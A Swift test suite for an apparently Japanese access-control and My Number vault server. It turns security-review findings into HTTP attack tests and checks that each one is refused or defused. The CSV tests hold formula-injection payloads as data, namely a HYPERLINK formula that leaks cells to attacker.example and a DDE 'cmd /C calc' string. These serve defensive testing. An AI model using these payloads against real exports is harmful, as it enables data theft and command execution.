import Access
import Foundation
import ServerCore
import AttendanceServer
import CardApplicationServer
import VaultServer
import Testing
import Vapor

/// Issue 14's data findings, each performed as the review's attack over real HTTP, and each followed
/// by the legitimate path that must still work: M1 (HR granting access), M2 (a typed number posing as
/// a chip reading), M6/L14 (CSV formulas), L5 (lenient dates), L6 (database text, duplicate numbers),
/// L8 (negative limits), M3 (file modes).
@Suite("Data security (issue 14)", .serialized)
struct DataSecurityTests {
    // MARK: M1

    @Test("M1: HR adding access groups to its own record is refused and the door still denies; only an admin assigns existing groups, audited before/after")
    func hrCannotGrantAccess() async throws {
        let s = try await TestServer.start()
        defer { Task { await s.stop() } }
        let admin = try await s.user(.admin)
        try await setUpSite(s, admin: admin)
        let desk = try await s.user(.hr)
        let (holder, employeeID, _) = try await enroll(s, desk: desk, number: "H0001", groups: [])
        // HR's own account is linked to the record it attacks.
        let hr = try await s.user(.hr, employee: UUID(uuidString: employeeID))
        let token = try await s.send(.POST, "/api/v1/doors/entrance/token", as: admin).object()["token"] as! String
        let door = TestServer.Identity(bearer: token)
        let serial = try await holder.serialHex
        let record: [String: Any] = ["employeeNumber": "H0001", "name": "試験 H0001", "department": "人事部"]
        func merged(_ extra: [String: Any]) -> [String: Any] { record.merging(extra) { _, b in b } }

        // The attack: groups, and the other fields that decide access.
        for attack in [merged(["groups": ["staff", "handlers"]]), merged(["status": "retired"]), merged(["validUntil": "2030-01-01T00:00:00Z"])] {
            let r = try await s.send(.PATCH, "/api/v1/employees/\(employeeID)", as: hr, json: attack)
            #expect(r.status == .forbidden, "\(attack): \(r.status) \(r.text)")
            #expect(r.text.contains("administrator"))
        }
        let tap = try await s.send(.POST, "/api/v1/doors/entrance/decisions", as: door, json: ["serial": serial])
        #expect(tap.object()["outcome"] as? String == "deny", "\(tap.text)")
        #expect(tap.object()["reason"] as? String == "no_permission", "\(tap.text)")
        let stored = try await s.send(.GET, "/api/v1/employees/\(employeeID)", as: admin).object()
        #expect((stored["groups"] as? [String]) == [], "\(stored)")

        // HR creating a person with groups is refused too (HR creates, an admin assigns).
        let created = try await s.send(.POST, "/api/v1/employees", as: hr, json: ["employeeNumber": "H0002", "name": "新人", "department": "総務部", "groups": ["staff"]])
        #expect(created.status == .forbidden, "\(created.text)")

        // The legitimate paths: HR edits the HR fields (sending the access fields back unchanged is fine)
        // and creates people without groups.
        let renamed = try await s.send(.PATCH, "/api/v1/employees/\(employeeID)", as: hr,
                                       json: merged(["department": "総務部", "groups": [String](), "status": "active"]))
        #expect(renamed.status == .ok, "\(renamed.text)")
        #expect(renamed.object()["department"] as? String == "総務部")
        // `site` is one of the few fields the document lets clear with null (NullableRequestFields); an
        // undeclared null is refused rather than read as "absent".
        let cleared = try await s.send(.PATCH, "/api/v1/employees/\(employeeID)", as: hr, json: merged(["department": "総務部", "site": NSNull()]))
        #expect(cleared.status == .ok, "\(cleared.text)")
        let nullName = try await s.send(.PATCH, "/api/v1/employees/\(employeeID)", as: hr, json: merged(["department": NSNull()]))
        #expect(nullName.status == .badRequest, "\(nullName.text)")
        #expect(try await s.send(.POST, "/api/v1/employees", as: hr, json: ["employeeNumber": "H0002", "name": "新人", "department": "総務部"]).status == .created)

        // An admin: an unknown group is refused with 422, an existing one assigned and audited.
        let unknown = try await s.send(.PATCH, "/api/v1/employees/\(employeeID)", as: admin, json: merged(["department": "総務部", "groups": ["does-not-exist"]]))
        #expect(unknown.status == .unprocessableEntity, "\(unknown.text)")
        // The refusal names the field, never the value sent (error texts repeat no input).
        #expect(unknown.text.contains("groups") && !unknown.text.contains("does-not-exist"), "\(unknown.text)")
        let createdUnknown = try await s.send(.POST, "/api/v1/employees", as: admin, json: ["employeeNumber": "H0003", "name": "x", "department": "y", "groups": ["nope"]])
        #expect(createdUnknown.status == .unprocessableEntity)
        let assigned = try await s.send(.PATCH, "/api/v1/employees/\(employeeID)", as: admin, json: merged(["department": "総務部", "groups": ["staff"]]))
        #expect(assigned.status == .ok, "\(assigned.text)")
        let granted = try await s.send(.POST, "/api/v1/doors/entrance/decisions", as: door, json: ["serial": serial])
        #expect(granted.object()["outcome"] as? String == "grant", "\(granted.text)")
        let security = try await s.user(.security)
        let events = try await s.send(.GET, "/api/v1/events?kind=config.employee.updated&limit=10", as: security).array()
        let change = events.compactMap { $0["details"] as? [String: String] }.first { $0["groups.after"] == "staff" }
        #expect(change?["groups.before"] == "", "\(events)")
        #expect(events.contains { ($0["details"] as? [String: String])?["department.after"] == "総務部" && ($0["details"] as? [String: String])?["department.before"] == "人事部" })
        await s.stop()
    }

    // MARK: M2

    @Test("a My Number pasted into an employee's name, department or site is refused and never reaches the event log")
    func numberInEmployeeText() async throws {
        let s = try await TestServer.start()
        defer { Task { await s.stop() } }
        let admin = try await s.user(.admin)
        let number = "1234 5678 9018"  // a published check-digit example, spaced as pasted
        for body in [["employeeNumber": "T0001", "name": "試験 \(number)", "department": "総務部"],
                     ["employeeNumber": "T0001", "name": "試験", "department": "１２３４５６７８９０１８"],
                     ["employeeNumber": "T0001", "name": "試験", "department": "総務部", "site": "123456789018"]] {
            let r = try await s.send(.POST, "/api/v1/employees", as: admin, json: body)
            #expect(r.status == .unprocessableEntity && r.text.contains("12-digit"), "\(r.text)")
            #expect(!r.text.contains("5678"))
        }
        let created = try await s.send(.POST, "/api/v1/employees", as: admin, json: ["employeeNumber": "T0001", "name": "試験", "department": "総務部"])
        let id = try #require(created.object()["id"] as? String)
        let renamed = try await s.send(.PATCH, "/api/v1/employees/\(id)", as: admin, json: ["employeeNumber": "T0001", "name": "試験 123456789018", "department": "総務部"])
        #expect(renamed.status == .unprocessableEntity)
        let log = try await s.send(.GET, "/api/v1/events?limit=500", as: admin).text
        #expect(!log.contains("5678") && !log.contains("５６７８"))
        await s.stop()
    }

    @Test("M2: a number posted from the own reader with a valid card signature is recorded awaiting documents, not as a chip reading")
    func vaultFakeReading() async throws {
        let site = try await VaultSite.start()
        defer { Task { await site.stop() } }
        let s = site.s
        let onChip = TestNumbers.make()
        var fake = TestNumbers.make()
        while fake == onChip { fake = TestNumbers.make() }
        let (employeeID, me) = try await site.employee("V0911")
        let requestID = try await site.request(employeeID, purposes: ["withholding_slip"])["id"] as! String
        #expect(try await s.send(.POST, "/api/v1/vault/my/requests/\(requestID)/acknowledge", as: me).status == .ok)
        let card = try VaultCard.make(number: onChip)
        try await site.enroll(card, employee: employeeID)
        // The attack: the employee's own card signs the challenge, but the digits are typed.
        var body = try await site.cardBody(card, request: requestID, as: me)
        body["number"] = fake
        // With the card's text files posted beside them, typed digits are refused outright (issue 17):
        // the server compares them with the files the integrity record vouches for.
        let withFiles = try await s.send(.POST, "/api/v1/vault/my/requests/\(requestID)/card", as: me, json: body)
        #expect(withFiles.status == .unprocessableEntity && withFiles.text.contains("card_files_disagree"), "\(withFiles.text)")
        // A hostile client simply leaves the files out: the number is then no chip reading.
        body = try await site.cardBody(card, request: requestID, as: me)
        body["number"] = fake
        body.removeValue(forKey: "textFiles")
        let given = try await s.send(.POST, "/api/v1/vault/my/requests/\(requestID)/card", as: me, json: body)
        #expect(given.status == .created, "\(given.text)")
        #expect(!given.text.contains("chip_with_pin"), "\(given.text)")
        let recordID = try #require(given.object()["recordId"] as? String)
        // Not a chip reading: no verification, not revealable, not exported.
        let view = try await s.send(.GET, "/api/v1/vault/requests/\(requestID)", as: site.handler)
        #expect(view.object()["status"] as? String == "notice_acknowledged", "\(view.text)")
        #expect(!view.text.contains("chip_with_pin"))
        let person = try await s.send(.GET, "/api/v1/vault/employees/\(employeeID)", as: site.handler)
        #expect(person.text.contains("own_reader"), "\(person.text)")
        let reveal = try await site.reveal(recordID, purpose: "withholding_slip")
        #expect(reveal.status.code >= 400, "\(reveal.status)")
        #expect(!reveal.text.contains(fake))
        let export = try await s.send(.POST, "/api/v1/vault/exports", as: site.handler, json: ["purpose": "withholding_slip", "encoding": "utf-8"])
        #expect(!export.text.contains(fake), "an unverified number was exported")
        // The legitimate path: the handler checks the card at the desk; then it is usable.
        let checked = try await s.send(.POST, "/api/v1/vault/requests/\(requestID)/verifications", as: site.handler, json: ["documents": [
            ["type": "my_number_card", "issuer": "千代田区長", "validUntil": "2034-04-02"],
        ]])
        #expect(checked.status == .ok, "\(checked.text)")
        #expect(try await site.reveal(recordID, purpose: "withholding_slip").status == .ok)
        await site.stop()
    }

    // MARK: M6, L14

    @Test("M6: formulas in the applicant's address and e-mail come out defused in the batch ZIP's CSV; a formula e-mail is refused")
    func batchCSVFormulas() async throws {
        let s = try await TestServer.start()
        defer { Task { await s.stop() } }
        let hr = try await s.user(.hr)
        let (_, alice) = try await CardFixture.person(s, hr: hr, number: "K0901", name: "山田 太郎")
        let app = try await s.send(.POST, "/api/v1/me/card-application", as: alice, json: ["route": "contractorBatch"]).object()["id"] as! String
        // The review's e-mail: refused as not an address.
        var attack = CardFixture.data()
        attack["address"] = "=HYPERLINK(\"http://attacker.example/?leak=\"&B2&C2,\"詳細\")"
        attack["email"] = "=HYPERLINK(\"http://x.example/\"&A1)@evil.example"
        let refused = try await s.send(.PUT, "/api/v1/me/card-application/data", as: alice, json: attack)
        #expect(refused.status == .unprocessableEntity, "\(refused.text)")
        #expect((refused.object()["issues"] as? [[String: Any]])?.contains { $0["field"] as? String == "email" } == true, "\(refused.text)")
        // A formula address (free text) and a valid address starting with a formula character get through
        // validation and must come out defused.
        attack["email"] = "taro+1@example.jp"
        attack["city"] = "千代田区"
        attack["phone"] = ""
        #expect(try await s.send(.PUT, "/api/v1/me/card-application/data", as: alice, json: attack).status == .ok)
        #expect(try await CardFixture.upload(s, alice, CardFixture.jpeg()).status == .ok)
        #expect(try await s.send(.POST, "/api/v1/card-applications/\(app)/review", as: hr, json: ["decision": "accept"]).status == .ok)
        let built = try await s.send(.POST, "/api/v1/card-batches", as: hr, json: [String: String]())
        #expect(built.status == .created, "\(built.text)")
        let batchID = try #require((built.object()["batch"] as? [String: Any])?["id"] as? String)
        let files = try CardFixture.unzip(try await s.send(.GET, "/api/v1/card-batches/\(batchID)/package", as: hr).body)
        let text = String(decoding: [UInt8](files["applications.csv"] ?? Data()).dropFirst(3), as: UTF8.self)
        let rows = CardFixture.csv(text)
        let cells = rows.dropFirst().flatMap { $0 }
        #expect(cells.contains { $0.hasPrefix("'=HYPERLINK(") }, "\(rows)")
        #expect(!cells.contains { $0.first.map { "=+-@\t\r".contains($0) } ?? false }, "a live formula cell: \(rows)")
        #expect(text.contains("\"'=HYPERLINK(\"\"http://attacker.example/"), "\(text)")
        await s.stop()
    }

    @Test("L14: the event CSV defuses a leading tab or CR as well as = + - @; one function for every export")
    func eventCSVFormulas() async throws {
        #expect(CSVField.escape("\t=1+1") == "\"'\t=1+1\"")
        #expect(CSVField.escape("\r=1") == "\"'\r=1\"")
        #expect(CSVField.escape("@SUM(A1)") == "\"'@SUM(A1)\"")
        #expect(CSVField.escape("山田, 太郎") == "\"山田, 太郎\"")
        #expect(CSVField.escape("plain") == "plain")
        let s = try await TestServer.start()
        defer { Task { await s.stop() } }
        let admin = try await s.user(.admin)
        // An employee number is free text written into the event log's details.
        let e = try await s.send(.POST, "/api/v1/employees", as: admin, json: ["employeeNumber": "\t=cmd|' /C calc'!A0", "name": "x", "department": "y"])
        #expect(e.status == .created, "\(e.text)")
        let csv = try await s.send(.GET, "/api/v1/events/export?format=csv&encoding=utf-8", as: admin)
        #expect(csv.status == .ok)
        let text = String(decoding: csv.body.dropFirst(3), as: UTF8.self)
        let rows = CardFixture.csv(text)
        #expect(rows.count > 1, "\(text)")
        #expect(!rows.flatMap { $0 }.contains { $0.first.map { "=+-@\t\r".contains($0) } ?? false }, "\(rows)")
        await s.stop()

        // The vault export's header names the handler: a username is whatever an account was created with.
        let site = try await VaultSite.start()
        defer { Task { await site.stop() } }
        let name = "=HYPERLINK(\"http://x.example/\")"
        try await Accounts.create(username: name, password: "correct horse battery", role: .hr, cost: 4, on: site.s.app.db)
        #expect(try await site.s.send(.POST, "/api/v1/vault/handlers", as: site.admin, json: ["username": name]).status == .created)
        let handler = try await site.s.signIn(name, "correct horse battery")
        let export = try await site.s.send(.POST, "/api/v1/vault/exports", as: handler, json: ["purpose": "withholding_slip", "encoding": "utf-8"])
        #expect(export.status == .ok, "\(export.text)")
        let header = CardFixture.csv(String(decoding: export.body.starts(with: [0xEF, 0xBB, 0xBF]) ? export.body.dropFirst(3) : export.body, as: UTF8.self))
        #expect(header.contains { $0.first == "# 出力者" && $0.dropFirst().first == "'" + name }, "\(header)")
        await site.stop()
    }

    // MARK: L5

    @Test("L5: impossible and implausible dates are refused with a clear 400/422 everywhere input carries dates; real ones pass")
    func strictDates() async throws {
        #expect(StrictDate.day("2026-02-30") == nil && StrictDate.day("0000-01-01") == nil && StrictDate.day("9999-12-31") == nil)
        #expect(StrictDate.day("2024-02-29") != nil && StrictDate.day("2026-2-3") == nil)
        #expect(StrictDate.instant("2026-02-30T00:00:00Z") == nil && StrictDate.instant("2026-01-01T24:00:00Z") == nil)
        let instant = try #require(StrictDate.instant("2026-12-05T09:00:00.125+09:00"))
        #expect(abs(instant.timeIntervalSince1970 - 1_796_428_800.125) < 0.0001)
        let site = try await VaultSite.start()
        defer { Task { await site.stop() } }
        let s = site.s
        let admin = site.admin
        // Employees: validFrom/validUntil through the server's JSON decoder.
        for bad in ["2026-02-30T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T00:00:00Z", "2026-04-01"] {
            let r = try await s.send(.POST, "/api/v1/employees", as: admin, json: ["employeeNumber": "D1", "name": "x", "department": "y", "validFrom": bad])
            #expect(r.status == .badRequest, "\(bad): \(r.status) \(r.text)")
            #expect(r.text.contains("1900"), "the rule is said: \(r.text)")
        }
        let ok = try await s.send(.POST, "/api/v1/employees", as: admin, json: ["employeeNumber": "D1", "name": "x", "department": "y",
                                                                             "validFrom": "2026-04-01T00:00:00+09:00"])
        #expect(ok.status == .created, "\(ok.text)")
        let employeeID = try #require(ok.object()["id"] as? String)
        // Attendance corrections and the month parameter.
        let correction = try await s.send(.POST, "/api/v1/attendance/corrections", as: admin, json: [
            "employeeId": employeeID, "action": "add", "direction": "in", "at": "2026-02-30T09:00:00+09:00", "reason": "打刻漏れ"])
        #expect(correction.status == .badRequest, "\(correction.text)")
        for month in ["0001-01", "9999-12", "2026-13", "2026-1"] {
            let r = try await s.send(.GET, "/api/v1/attendance/employees/\(employeeID)?month=\(month)", as: admin)
            #expect(r.status == .badRequest, "\(month): \(r.status)")
        }
        #expect(try await s.send(.GET, "/api/v1/attendance/employees/\(employeeID)?month=2026-02", as: admin).status == .ok)
        // Events: from/to.
        #expect(try await s.send(.GET, "/api/v1/events?from=2026-02-30T00:00:00Z", as: admin).status == .badRequest)
        #expect(try await s.send(.GET, "/api/v1/events?from=2026-02-28T00:00:00Z", as: admin).status == .ok)
        // The vault profile: the review's leaving date 0000-01-01 would make numbers disposable at once.
        for (field, bad) in [("leavingDate", "0000-01-01"), ("birthDate", "2026-02-30"), ("leavingDate", "9999-12-31")] {
            let r = try await s.send(.PUT, "/api/v1/vault/employees/\(employeeID)/profile", as: site.handler, json: [field: bad])
            #expect(r.status.code == 400 || r.status.code == 422, "\(field)=\(bad): \(r.status) \(r.text)")
        }
        let profile = try await s.send(.PUT, "/api/v1/vault/employees/\(employeeID)/profile", as: site.handler,
                                       json: ["birthDate": "1985-04-02", "leavingDate": "2031-03-31"])
        #expect(profile.status == .ok, "\(profile.text)")
        await site.stop()
    }

    // MARK: L6, L8

    @Test("L6: a duplicate employee number is 409 with a plain sentence, never the database's text; L8: limit is clamped to 1…10000")
    func duplicatesAndLimits() async throws {
        let s = try await TestServer.start()
        defer { Task { await s.stop() } }
        let admin = try await s.user(.admin)
        let hr = try await s.user(.hr)
        var ids: [String] = []
        for n in ["E0001", "E0002", "E0003"] {
            let r = try await s.send(.POST, "/api/v1/employees", as: hr, json: ["employeeNumber": n, "name": "x", "department": "y"])
            #expect(r.status == .created)
            ids.append(r.object()["id"] as? String ?? "")
        }
        for who in [hr, admin] {
            let dup = try await s.send(.PATCH, "/api/v1/employees/\(ids[1])", as: who, json: ["employeeNumber": "E0001", "name": "x", "department": "y"])
            #expect(dup.status == .conflict, "\(dup.status) \(dup.text)")
            // The handler's own check answers, naming the field (the database backstop's text is generic).
            #expect(dup.text.contains("employee number already in use"), "\(dup.text)")
            #expect(!dup.text.lowercased().contains("unique") && !dup.text.contains("constraint") && !dup.text.contains("employees."), "\(dup.text)")
        }
        let again = try await s.send(.POST, "/api/v1/employees", as: hr, json: ["employeeNumber": "E0001", "name": "x", "department": "y"])
        #expect(again.status == .conflict && !again.text.lowercased().contains("unique"), "\(again.text)")
        // A race between the check and the write: the database's own refusal is a 409 with a plain
        // sentence too (DatabaseErrorMiddleware), never a 500 with its text.
        // Whether a round races is up to the scheduler, so several rounds.
        var racers: [TestServer.Reply] = []
        for round in 0..<4 {
            let replies = try await withThrowingTaskGroup(of: TestServer.Reply.self) { group in
                for _ in 0..<12 {
                    group.addTask { try await s.send(.POST, "/api/v1/employees", as: hr, json: ["employeeNumber": "R00\(round)", "name": "x", "department": "y"]) }
                }
                return try await group.reduce(into: []) { $0.append($1) }
            }
            #expect(replies.filter { $0.status == .created }.count == 1)
            racers += replies
        }
        #expect(racers.allSatisfy { $0.status == .created || $0.status == .conflict }, "\(racers.map(\.status))")
        #expect(!racers.contains { $0.text.lowercased().contains("unique") || $0.text.contains("constraint") })
        // L8: -1 is not "everything"; 0 is one row; a huge limit is capped.
        for limit in ["-1", "0"] {
            let r = try await s.send(.GET, "/api/v1/employees?limit=\(limit)", as: hr)
            #expect(r.status == .ok && r.array().count == 1, "limit=\(limit): \(r.array().count)")
            #expect(try await s.send(.GET, "/api/v1/credentials?limit=\(limit)", as: hr).status == .ok)
            let ev = try await s.send(.GET, "/api/v1/events?limit=\(limit)", as: admin)
            #expect(ev.status == .ok && ev.array().count == 1, "events limit=\(limit): \(ev.array().count)")
        }
        #expect(try await s.send(.GET, "/api/v1/employees?limit=99999999", as: hr).array().count == 7)
        await s.stop()
    }

    // MARK: M3

    @Test("M3: after a start the data directory is 0700 and mynagate.sqlite, -wal and -shm are 0600, even when they were 0644 before")
    func fileModes() async throws {
        guard TestServer.postgresURL == nil else { return }
        func mode(_ path: String) -> Int {
            ((try? FileManager.default.attributesOfItem(atPath: path))?[.posixPermissions] as? NSNumber)?.intValue ?? -1
        }
        var dir = ""
        let first = try await TestServer.start { c, _ in dir = c.dataDirectory }
        _ = try await first.user(.admin)
        let db = (dir as NSString).appendingPathComponent("mynagate.sqlite")
        #expect(mode(dir) == 0o700, "directory \(String(mode(dir), radix: 8))")
        #expect(FileManager.default.fileExists(atPath: db + "-wal"), "WAL mode makes a -wal file")
        for path in [db, db + "-wal", db + "-shm"] where FileManager.default.fileExists(atPath: path) {
            #expect(mode(path) == 0o600, "\(path): \(String(mode(path), radix: 8))")
        }
        // Files left world-readable by an older version are tightened at the next start.
        await first.app.server.shutdown()
        try await first.app.asyncShutdown()
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: dir)
        try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: db)
        let second = try await TestServer.start { c, _ in c.dataDirectory = dir }
        #expect(mode(dir) == 0o700)
        #expect(mode(db) == 0o600)
        await second.stop()
        try? FileManager.default.removeItem(atPath: dir)
    }
}
